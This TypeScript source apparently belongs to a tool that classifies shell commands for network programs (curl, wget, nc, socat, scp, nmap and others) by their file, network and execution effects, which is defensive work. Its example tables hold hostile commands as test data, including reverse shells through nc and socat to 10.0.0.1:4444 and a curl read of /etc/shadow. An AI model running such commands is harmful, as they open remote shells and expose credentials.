/** Programs that talk over the network. */
import type { Call } from "../call.ts";
import type { Effect } from "../effect.ts";
import { names, type Parsed } from "../options.ts";
import { defineProgram, harmless, type Program } from "../program.ts";
import type { Word } from "../word.ts";
import { asksHelp } from "./administers.ts";
import { contact, copies } from "./hosts.ts";
import { queries } from "./queries.ts";

/** The word without its first characters. */
function after(word: Word, count: number): Word {
  return {
    ...word,
    value: word.value?.slice(count) ?? null,
    prefix: word.prefix.slice(count),
    code: word.code.slice(count),
  };
}

/** Options of curl whose value is sent, and may name a file after `@`, `<` or `=`. */
const CURL_DATA =
  "-d --data --data-ascii --data-binary --data-urlencode --json -F --form -H --header -b --cookie --url-query --variable";

const CURL_VALUES =
  "-X --request -u --user -A --user-agent -e --referer -m --max-time --connect-timeout --retry " +
  "--retry-delay --retry-max-time -x --proxy --proxy-user -U --resolve --connect-to -w --write-out -r --range -y -Y " +
  "--limit-rate --max-redirs --max-filesize --interface --local-port --dns-servers --doh-url -C --continue-at --ciphers " +
  "--tls-max --tls13-ciphers --curves --proto --proto-default --proto-redir --form-string --noproxy --socks5 " +
  "--socks5-hostname --socks4 --socks4a --preproxy --unix-socket --abstract-unix-socket -P --ftp-port --ftp-method -Q --quote -t " +
  "--telnet-option -z --time-cond --keepalive-time --expect100-timeout --happy-eyeballs-timeout-ms --oauth2-bearer " +
  "--aws-sigv4 --rate --parallel-max --mail-from --mail-rcpt --mail-auth --login-options --delegation --cert-type " +
  "--key-type --pass --pinnedpubkey --hostpubmd5 --hostpubsha256 --create-file-mode --output-dir --url --request-target " +
  "--service-name --trace-config --ip-tos --vlan-priority";

/** Files a data option of curl sends: `@file`, `name@file`, `name=@file`, `name=<file`. */
function sent(parsed: Parsed): Word[] {
  return names(CURL_DATA).flatMap((option) =>
    parsed.values(option).flatMap((word) => {
      const text = word.value ?? word.prefix;
      const form = /^--?F$|^--form$/.test(option);
      const found = form
        ? /^[^=]*=[@<]/.exec(text)
        : option === "--data-urlencode" || option === "--url-query" || option === "--variable"
        ? /^%?[^=@]*@/.exec(text)
        : option === "-b" || option === "--cookie"
        ? (text.includes("=") ? null : /^/.exec(text))
        : /^@/.exec(text);
      if (found === null) return [];
      const file = after(word, found[0].length);
      const end = form ? (file.value ?? file.prefix).search(/[;,]/) : -1;
      return [
        end < 0
          ? file
          : { ...file, value: file.value?.slice(0, end) ?? null, prefix: file.prefix.slice(0, end) },
      ];
    })
  ).filter((word) => word.value !== "-" && word.value !== "");
}

function curl(parsed: Parsed, call: Call): readonly Effect[] {
  if (asksHelp(call) || parsed.has("-h", "--help", "-V", "--version", "-M", "--manual")) return [];
  const list: Effect[] = call.touch("read", sent(parsed));
  const urls = [...parsed.operands, ...parsed.values("--url")];
  for (const word of urls) {
    const local = /^file:\/\/(?:localhost)?(?=\/)/i.exec(word.value ?? word.prefix);
    if (local) list.push(...call.touch("read", [after(word, local[0].length)]));
    else list.push(contact(word));
  }
  if (urls.length === 0) list.push({ kind: "network" });
  if (parsed.has("-O", "--remote-name", "--remote-name-all")) {
    const directory = parsed.values("--output-dir");
    const place = directory.length > 0 ? call.touch("write", directory) : here(call);
    list.push(...place.map((effect) => ({ ...effect, below: true as const, filtered: true as const })));
  }
  return list;
}

function here(call: Call): Effect[] {
  return [{ kind: "write", ...(call.cwd === null ? { unknown: true } : { path: call.cwd }) }];
}

function wget(parsed: Parsed, call: Call): readonly Effect[] {
  if (asksHelp(call) || parsed.has("-h", "--help", "-V", "--version")) return [];
  const list: Effect[] = parsed.operands.map(contact);
  if (list.length === 0) list.push({ kind: "network" });
  if (parsed.value("-O", "--output-document") !== null || parsed.has("--spider")) return list;
  const directory = parsed.values("-P", "--directory-prefix");
  const place = directory.length > 0 ? call.touch("write", directory) : here(call);
  return [...list, ...place.map((effect) => ({ ...effect, below: true as const, filtered: true as const }))];
}

/** One network effect per operand that is no option of the program's own kind (`+short`, `@server`, a record type). */
function lookup(parsed: Parsed, call: Call): readonly Effect[] {
  if (asksHelp(call)) return [];
  const hosts = parsed.operands.filter((word) =>
    !/^\+|^(?:A|AAAA|MX|NS|TXT|SOA|SRV|PTR|CNAME|ANY|IN)$/i.test(word.prefix)
  );
  // A method, or a port, is no host.
  const named = /^(?:https?|xhs?|telnet)$/.test(call.name)
    ? hosts.filter((word, index) =>
      !/^(?:GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/.test(word.prefix) &&
      !(index > 0 && /^\d+$/.test(word.prefix))
    )
    : hosts;
  const found = named.map((word) => contact(word.prefix.startsWith("@") ? after(word, 1) : word));
  return found.length > 0 ? found : [{ kind: "network" }];
}

/** A browser in the terminal: pages here are read, all else is fetched. */
function browse(parsed: Parsed, call: Call): readonly Effect[] {
  if (
    asksHelp(call) || (parsed.operands.length === 0 && parsed.has("-v", "-version", "-help", "-T", "-stdin"))
  ) {
    return [];
  }
  const here = (word: Word) => /^(?:\.{0,2}\/|~\/)|^[\w.-]+\.(?:x?html?|txt|md)$/i.test(word.value ?? "");
  const far = parsed.operands.filter((word) => !here(word));
  return [
    ...call.touch("read", parsed.operands.filter(here)),
    ...(parsed.operands.length === 0 ? [{ kind: "network" } as const] : far.map(contact)),
  ];
}

/** `nc`, and what it does with a program. */
function netcat(parsed: Parsed, call: Call): readonly Effect[] {
  if (asksHelp(call) || parsed.has("-h", "--help")) return [];
  const host = parsed.operands[0];
  return [host === undefined || parsed.has("-l", "--listen") ? { kind: "network" } : contact(host)];
}

function socat(parsed: Parsed, call: Call): readonly Effect[] {
  return parsed.operands.flatMap((word): Effect[] => {
    const text = word.value ?? word.prefix;
    const [, kind = "", rest = ""] = /^([a-z0-9_-]*):?(.*)$/is.exec(text) ?? [];
    if (/^(?:exec|system|shell)$/i.test(kind)) {
      return [{ kind: "execute", program: rest.split(/[\s,]/)[0] ?? "", word }];
    }
    if (/^(?:stdio|stdin|stdout|stderr|fd|pipe|readline|)$|^-/i.test(kind)) return [];
    if (/^(?:file|open|create|gopen|creat)$/i.test(kind)) {
      return call.touch("write", [after(word, kind.length + 1)]);
    }
    return [{
      kind: "network",
      word,
      ...(/^[\w.-]+/.exec(rest) ? { host: /^[\w.-]+/.exec(rest)?.[0] ?? "" } : {}),
    }];
  });
}

const SSH_VALUES = "-c -i -J -l -P -D -X -b";

/** Clients, copiers, and what asks the network. */
export const network: readonly Program[] = [
  defineProgram({
    names: "curl",
    options: {
      values: `${CURL_VALUES} ${CURL_DATA}`,
      reads:
        "-T --upload-file -E --cert --key --cacert --capath --crlfile --netrc-file --etag-compare --proxy-cert --proxy-key",
      writes:
        "-o --output -D --dump-header -c --cookie-jar --trace --trace-ascii --stderr --libcurl --etag-save --hsts --alt-svc",
      executes: "-K --config --engine",
      flags: "--head -I",
    },
    effects: curl,
    examples: {
      "curl -fsSL https://example.com/i.sh -o /tmp/i.sh": "write:/tmp/i.sh network",
      "curl -d @a -F 'f=@b;type=x' http://e": "read:/home/user/project/a read:/home/user/project/b network",
      "curl file:///etc/shadow": "read:/etc/shadow",
      "curl -sO http://e/x": "network write:/home/user/project",
    },
  }),
  defineProgram({
    names: "wget wget2",
    options: {
      values:
        "-t --tries -T --timeout -w --wait -Q --quota -U --user-agent --referer --header --user --password --post-data " +
        "--method --body-data -A --accept -R --reject -D --domains -I -X -l --level -P --directory-prefix --limit-rate " +
        "--cut-dirs --progress --max-redirect --bind-address --restrict-file-names -B --base --ftp-user --ftp-password",
      reads:
        "-i --input-file --post-file --body-file --load-cookies --ca-certificate --certificate --private-key",
      writes:
        "-O --output-document -o --output-file -a --append-output --save-cookies --warc-file --rejected-log",
      executes: "-e --execute --config --use-askpass",
    },
    effects: wget,
    examples: { "wget -qO- http://e/x": "network", "wget http://e/x": "network write:/home/user/project" },
  }),
  defineProgram({
    names: "http https xh xhs httpie aria2c lftp ftp tftp ncftp telnet axel youtube-dl yt-dlp httrack",
    options: {
      values: "-d -o --output -x -j -e -c -A -p -P",
      writes: "-o --output --download-dir --dir",
      risky: "-e -c --on-download-complete --exec",
    },
    effects: lookup,
  }),
  defineProgram({
    names: "w3m lynx links links2 elinks",
    options: {
      style: "single",
      values:
        "-T -I -O -l -cols -t -s -N -p -width -display_charset -assume_charset -accept_charset -force_html -M -S -dump-width -dump-charset",
      flags: "-dump -source -nolist -stdin -dump_source -B -v -m -G -nolog -version -help",
      writes: "-cookie_save_file -cookies -trace -tlog -download",
      reads: "-bookmark -cfg -config",
      risky:
        "-o -e -eval -cmd_script -crawl -traversal -lua -post -post_data -get_data -auth -exec -homepath",
    },
    effects: browse,
    examples: {
      "w3m -dump a.html": "read:/home/user/project/a.html",
      "lynx -dump http://a.example/": "network:a.example",
      "w3m -T text/html": "",
    },
  }),
  defineProgram({
    names:
      "ping ping6 fping arping hping3 traceroute traceroute6 tracepath tracepath6 mtr tcptraceroute clockdiff",
    options: { values: "-c -i -I -s -t -W -w -Q -M -m -p -S -l -f -q -n", optional: "-q -n -f -l" },
    effects: lookup,
    examples: { "ping 1.1.1.1": "network" },
  }),
  defineProgram({
    names: "unbound-host dnstracer dig host nslookup delv drill kdig whois resolveip ssh-keyscan geoiplookup",
    options: {
      values: "-t -p -q -x -c -b -k -y -h -T -W -R -m -i -u -s -a",
      reads: "-f",
      optional: "-i -a -s",
    },
    effects: lookup,
  }),
  defineProgram({
    names: "rmadison who-permits-upload who-uploads grep-excuses wnpp-alert rc-alert",
    effects: (_, call) => asksHelp(call) ? [] : [{ kind: "network" }],
  }),
  defineProgram({
    names: "nmap zmap masscan",
    options: {
      values: "-p -T --top-ports -e --script -D -S -g --exclude",
      reads: "-iL",
      writes: "-oN -oX -oG -oA -oS",
      style: "single",
    },
    effects: lookup,
  }),
  defineProgram({
    names: "nc ncat netcat nc.openbsd nc.traditional",
    options: {
      values: "-p --source-port -w --wait -s --source -i -q -X -x --proxy -I -O -T --max-conns -m",
      executes: "-e --exec -c --sh-exec --lua-exec",
      writes: "-o --output",
    },
    effects: netcat,
    examples: { "nc -e /bin/sh 10.0.0.1 4444": "execute:/bin/sh network", "nc -zv localhost 80": "network" },
  }),
  defineProgram({
    names: "socat socat1",
    options: { values: "-b -t -T -L -W -lf" },
    effects: socat,
    examples: {
      "socat TCP:10.0.0.1:4444 EXEC:/bin/sh": "network execute",
    },
  }),
  defineProgram({
    names: "scp pscp sftp",
    options: { values: SSH_VALUES, reads: "-F", executes: "-S -o -D" },
    effects: (parsed, call) =>
      parsed.operands.length > 1 ? copies(parsed.operands, call) : [{ kind: "network" }],
    examples: {
      "scp a me@box:/tmp/a": "read:/home/user/project/a network",
      "scp box:a b": "network write:/home/user/project/b",
    },
  }),
  defineProgram({
    names: "mail mailx sendmail mutt msmtp swaks s-nail",
    options: { values: "-s -c -b -r -S", reads: "-a -A --attach", risky: "-I" },
    effects: (_, call) => asksHelp(call) ? [] : [{ kind: "network" }],
  }),
  harmless(
    "ipv6calc ldapurl netstat nstat ifstat lnstat rtacct nethogs iftop bmon vnstat iptraf-ng tcptrack ipcalc sipcalc grepcidr",
  ),
  defineProgram({
    names: "ss",
    options: { values: "-f -A", reads: "-F --filter", writes: "-D --diag" },
    effects: (parsed, call) =>
      parsed.has("-K", "--kill") ? [{ kind: "privilege", program: "ss", word: call.program }] : [],
    examples: { "ss -K dst 1.2.3.4": "privilege", "ss -ltnp": "" },
  }),
  defineProgram({
    names: "tcpdump tshark dumpcap ngrep",
    options: { values: "-i -c -s -f -Y -e -T -n -B -G -C -W", reads: "-r -F", writes: "-w", executes: "-z" },
    effects: (parsed, call) =>
      asksHelp(call) || parsed.value("-r") !== null || parsed.has("-D", "--list-interfaces")
        ? []
        : [{ kind: "network" }],
  }),
  queries("ip", {
    options: {
      values: "-f -family -n -netns -rcvbuf -rc -l -loops",
      risky: "-b -batch -force",
      style: "single",
    },
    objects:
      "link l address addr a addrlabel route r rule ru neigh n neighbor neighbour ntable tunnel tuntap maddress maddr mroute mrule netns xfrm state policy token macsec vrf nexthop sr tunsrc hmac namespace schema mptcp endpoint limits tcp_metrics tcpmetrics netconf stats ioam l2tp fou ila amt",
    verbs: "show sh list ls lst l get help monitor list-id identify pids count getroute",
  }),
  queries("bridge tc dcb", {
    options: { values: "-n -netns", risky: "-b -batch -force", style: "single" },
    bare: true,
    objects:
      "link fdb mdb vlan vni qdisc class filter action actions chain monitor ets buffer maxrate pfc app rewr apptrust dcbx",
    verbs: "show list ls get help monitor",
  }),
  queries("devlink rdma", {
    options: { values: "-N", style: "single", risky: "-b -batch -force" },
    objects:
      "dev port sb region health trap dpipe resource rate linecard lc monitor eswitch flash pool tc occupancy header table link res resource statistic system param function group policer mode supported stat qp bind entry cc",
    verbs: "show list read get help monitor supported mode dump diagnose info",
  }),
  queries("ethtool", {
    options: { values: "", style: "single" },
    flags:
      "-i --driver -k --show-features -a --show-pause -c --show-coalesce -g --show-ring -l --show-channels -S --statistics -T -P --show-permaddr -m --module-info -d --register-dump -x --show-eee --show-fec --show-priv-flags -u -n -h --help --version",
    single: true,
  }),
  queries("ifconfig iwconfig", { single: true, bare: true, flags: "-a -s" }),
  queries("route arp", { bare: true, flags: "-n -a -e -v -ee" }),
  queries("iw iwlist", {
    objects: "dev phy reg wlan0 wlan1",
    verbs: "info scan list link station survey get features commands help dump",
  }),
  queries("nmcli", {
    bare: true,
    objects: "device dev d connection con c general g radio r networking n",
    verbs: "status show list monitor permissions hostname logging connectivity",
    options: { values: "-f --fields -m --mode -g --get-values -c -e -w" },
  }),
  queries("iptables ip6tables ebtables arptables", {
    flags: "-L --list -S --list-rules -C --check -V --version",
    options: {
      flags: "-n --numeric -v --verbose -x --exact --line-numbers -4 -6",
      values: "-t --table -w --wait",
    },
  }),
  queries("iptables-save ip6tables-save", { bare: true, flags: "-c --counters -t --table" }),
  queries("nft", {
    verbs: "list monitor describe",
    options: { values: "-I --includepath", risky: "-f --file -i --interactive" },
  }),
  queries("ipset conntrack", {
    verbs: "list save version help test",
    flags: "-L -S -C -G --dump --stats --count -E",
    options: { flags: "-n -o -4 -6", values: "-p -f -s -d --proto --orig-src --orig-dst" },
  }),
  queries("ufw", { verbs: "status version show" }),
  queries("firewall-cmd", {
    flags:
      "--state --list-all --list-all-zones --list-ports --list-services --get-zones --get-default-zone --get-active-zones --get-services --query-port --query-service",
    options: { flags: "--permanent", values: "--zone --policy" },
  }),
  queries("fail2ban-client wg", { bare: true, verbs: "status show version ping banned showconf" }),
];
